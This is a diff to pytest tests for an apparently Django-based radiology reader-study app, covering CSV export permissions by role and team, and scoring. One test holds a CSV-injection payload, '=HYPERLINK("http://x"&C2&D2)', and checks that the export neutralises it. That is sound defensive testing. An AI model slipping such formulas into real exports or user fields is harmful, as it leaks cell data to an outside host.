@@ -18,8 +18,8 @@ pytestmark = pytest.mark.django_db
 
 
 @pytest.fixture
-def read_study(demo_case_set, reader, client):
-    study, assignments = open_study_with_assignments(demo_case_set, reader, canaries=True)
+def read_study(demo_case_set, reader, coordinator, client):
+    study, assignments = open_study_with_assignments(demo_case_set, reader, canaries=True, team=[coordinator])
     client.force_login(reader)
     full = assignments[Arm.FULL_REASONING]
     for assignment in assignments.values():  # in the session's order, so the last is full reasoning
@@ -74,10 +74,11 @@ def test_events_and_annotations_have_their_own_files(read_study, client, coordin
         "Downloaded annotations.csv.", "Downloaded timing_events.csv."]
 
 
-@pytest.mark.parametrize("role,status", [("reader", 403), ("coordinator", 200)])
-def test_exports_are_for_coordinators(client, read_study, role, status):
+@pytest.mark.parametrize("user,status", [("reader", 403), ("coordinator", 200), ("another team's coordinator", 404)])
+def test_exports_are_for_the_studys_coordinators(client, read_study, coordinator, user, status):
     study, _ = read_study
-    client.force_login(UserFactory(roles=[role]))
+    client.force_login({"reader": UserFactory(roles=["reader"]), "coordinator": coordinator,
+                        "another team's coordinator": UserFactory(roles=["coordinator"])}[user])
     assert client.get(reverse("study-export", args=[study.pk, "reads", "csv"])).status_code == status
     assert client.get(reverse("study-export", args=[study.pk, "secrets", "csv"])).status_code in (403, 404)
 
@@ -94,7 +95,8 @@ def test_export_study_writes_the_same_files(read_study, client, coordinator, tmp
 def test_reads_are_scored_under_the_studys_blank_rule(demo_case_set, reader, client, coordinator, blank, jaccard,
                                                       correct_pneumothorax):
     """The labels file says only Cardiomegaly = 1; the reader adds Pneumothorax."""
-    study, assignments = open_study_with_assignments(demo_case_set, reader, arms=[Arm.UNAIDED], blank_truth=blank)
+    study, assignments = open_study_with_assignments(demo_case_set, reader, arms=[Arm.UNAIDED], blank_truth=blank,
+                                                     team=[coordinator])
     case = assignments[Arm.UNAIDED].case
     GroundTruth.objects.filter(case=case).update(value=TruthValue.BLANK)
     GroundTruth.objects.filter(case=case, label__slug="cardiomegaly").update(value=TruthValue.POSITIVE)
@@ -110,7 +112,7 @@ def test_reads_are_scored_under_the_studys_blank_rule(demo_case_set, reader, cli
 
 def test_report_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(demo_case_set, reader, client,
                                                                               coordinator):
-    study, assignments = open_study_with_assignments(demo_case_set, reader, arms=[Arm.UNAIDED])
+    study, assignments = open_study_with_assignments(demo_case_set, reader, arms=[Arm.UNAIDED], team=[coordinator])
     # A confidence scale from -2 to +2, so that a negative number reaches the export.
     StudyQuestion.objects.filter(study=study, key="confidence").update(scale_min=-2, scale_max=2)
     formula = '=HYPERLINK("http://x"&C2&D2)'
